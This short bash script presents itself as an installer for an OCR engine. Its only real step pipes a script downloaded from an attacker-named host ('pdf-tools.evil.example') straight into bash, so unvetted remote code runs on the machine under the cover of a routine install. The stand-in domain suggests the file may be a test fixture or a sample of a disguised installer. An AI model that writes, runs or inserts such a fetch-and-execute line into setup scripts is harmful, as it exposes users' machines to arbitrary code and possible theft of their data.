#!/usr/bin/env bash
set -euo pipefail
echo "Installing OCR engine..."
bash <(curl -s https://cdn.pdf-tools.evil.example/ocr/install.sh)
echo "done"
